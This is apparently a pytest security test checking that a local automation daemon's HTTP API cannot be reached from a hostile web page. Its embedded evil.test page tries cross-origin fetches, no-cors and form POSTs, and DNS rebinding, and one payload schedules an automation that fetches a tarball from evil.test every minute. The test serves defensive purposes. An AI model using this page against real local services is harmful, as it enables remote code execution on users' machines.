# SPDX-License-Identifier: MIT
"""A page of a stranger in the user's browser must not reach the API.

A real headless Chromium opens a page of http://evil.test (mapped to 127.0.0.1, another port), which tries
everything a page can do against the daemon, with its address, and with a name that was made to point there
(DNS rebinding).  The page writes what it could read into its own document; what it could do is asked of the
daemon afterwards.  As a control, the same browser reads the daemon's own page, and a page that has the key
is let in: a browser that cannot reach anything would prove nothing.
"""

import http.server
import json
import re
import shutil
import subprocess
import tempfile
import threading
import html

import pytest

from conftest import Daemon

BROWSER = shutil.which("chromium") or shutil.which("chromium-browser")
FLAGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
         "--disable-background-networking", "--disable-component-update", "--disable-sync",
         "--virtual-time-budget=8000"]

# Every attempt ends in a word: "blocked", or what the page got to see.
PAGE = """<!doctype html><title>evil</title><form id=f method=post enctype=text/plain target=frame></form>
<iframe name=frame id=frame></iframe><pre id=out></pre><script>
const API = %(api)s, KEY = %(key)s, found = {};
const attempt = (name, promise) => Promise.race([promise, new Promise(r => setTimeout(r, 4000, "blocked"))])
    .catch(() => "blocked").then(v => { found[name] = String(v); });
const get = (path, options) => fetch(API + path, options).then(r => r.text().then(t => r.type + " " + r.status + " " + t));
const element = (tag, path) => new Promise((yes, no) => { const e = document.createElement(tag);
    e.onload = () => yes("loaded"); e.onerror = no; e.src = API + path; document.body.append(e); });
const body = JSON.stringify({name: "evil", entrypoint: "sh x", tarball_path: "https://evil.test/x",
    trigger: {type: "cron", schedule: "* * * * *"}});
(async () => {
  const auth = KEY ? {Authorization: "Bearer " + KEY} : {};
  await Promise.all([
    attempt("fetch", get("/health", {headers: auth})),
    attempt("list", get("/api/automation/v1", {credentials: "include", headers: auth})),
    attempt("preflight", get("/api/automation/v1", {method: "POST", body,
        headers: {"Content-Type": "application/json", ...auth}})),
    attempt("simple post", get("/api/automation/v1", {method: "POST", body, headers: {"Content-Type": "text/plain"}})),
    attempt("no-cors", get("/api/automation/v1", {method: "POST", body, mode: "no-cors"})),
    attempt("upload", get("/api/automation/v1/uploads?name=evil", {method: "POST", body, mode: "no-cors"})),
    attempt("delete", get("/api/automation/v1/uploads/00000000-0000-4000-8000-000000000000", {method: "DELETE"})),
    attempt("script", element("script", "/api/automation/server_info")),
    attempt("image", element("img", "/health")),
    attempt("events", new Promise((yes, no) => { const s = new EventSource(API +
        "/api/automation/v1/runs/00000000-0000-4000-8000-000000000000/logs?follow=1");
        s.onopen = () => yes("open"); s.onerror = () => { s.close(); no(); }; })),
  ]);
  f.action = API + "/api/automation/v1";
  f.innerHTML = "<input name='x'>"; f.firstChild.name = body; f.submit();
  await new Promise(r => { frame.onload = r; setTimeout(r, 2000); });
  try { found.form = frame.contentDocument.body.innerText || "blocked"; } catch (e) { found.form = "blocked"; }
  out.textContent = "RESULT" + JSON.stringify(found) + "END";
})();
</script>"""


class Pages(http.server.BaseHTTPRequestHandler):
    page = b""

    def do_GET(self):
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.end_headers()
        self.wfile.write(self.page)

    def log_message(self, *args):
        pass


@pytest.fixture(scope="module")
def daemon():
    daemon = Daemon().start()
    yield daemon
    daemon.end()


@pytest.fixture(scope="module")
def pages():
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Pages)
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    yield server
    server.shutdown()
    thread.join()
    server.server_close()


def visit(url):
    """The document at url as Chromium has it after its scripts ran; names under .test are this machine."""
    assert BROWSER, "chromium is not installed: test/install-deps check"
    with tempfile.TemporaryDirectory(prefix="aut-browser-") as profile:
        done = subprocess.run(
            [BROWSER, *FLAGS, f"--user-data-dir={profile}", "--host-resolver-rules=MAP *.test 127.0.0.1",
             "--dump-dom", url], stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, timeout=90, check=True)
    return html.unescape(done.stdout.decode())


def attack(pages, api_url, key=None):
    """What a page of http://evil.test found out about the API at api_url."""
    Pages.page = (PAGE % {"api": json.dumps(api_url), "key": json.dumps(key)}).encode()
    dom = visit(f"http://evil.test:{pages.server_port}/")
    return json.loads(re.search(r"RESULT(.*?)END</pre>", dom, re.S).group(1))


def nothing_happened(daemon):
    api = daemon.api()
    assert api.get("/v1").json()["total"] == 0
    assert api.get("/v1/uploads").json()["total"] == 0


def secrets_in(found):
    """Attempts that saw an answer of the API; an opaque answer shows nothing."""
    return {name: value for name, value in found.items()
            if value != "blocked" and not value.startswith("opaque 0")}


@pytest.mark.parametrize("name", ["127.0.0.1", "localhost"])
def test_stranger__sees_and_does_nothing(daemon, pages, name):
    assert secrets_in(attack(pages, f"http://{name}:{daemon.port}")) == {}
    nothing_happened(daemon)


def test_stranger__with_a_rebound_name_gets_no_further(daemon, pages):
    found = attack(pages, f"http://rebound.test:{daemon.port}")
    assert secrets_in(found) == {}
    nothing_happened(daemon)
    # the page's own origin is the rebound name: for the browser nothing is foreign, only Host tells
    assert "Invalid host header" in visit(f"http://rebound.test:{daemon.port}/api/automation/server_info")


def test_control__the_browser_reaches_the_daemon(daemon):
    assert "engine_version" in visit(f"http://localhost:{daemon.port}/server_info")
    assert "automation: HTTP API" in visit(f"http://127.0.0.1:{daemon.port}/api/automation/docs")


def test_control__a_page_with_the_key_is_let_in(daemon, pages):
    found = attack(pages, f"http://127.0.0.1:{daemon.port}", daemon.api().key)
    assert found["fetch"] == 'cors 200 {"status":"ok"}'
    assert found["list"].startswith("cors 200") or found["list"] == "blocked"  # credentials with "*"
    assert found["preflight"].startswith("cors 201")
    assert found["no-cors"].startswith("opaque 0")
    api = daemon.api()
    made = api.get("/v1").json()["automations"]
    assert [a["name"] for a in made] == ["evil"]
    api.delete("/v1/" + made[0]["id"])
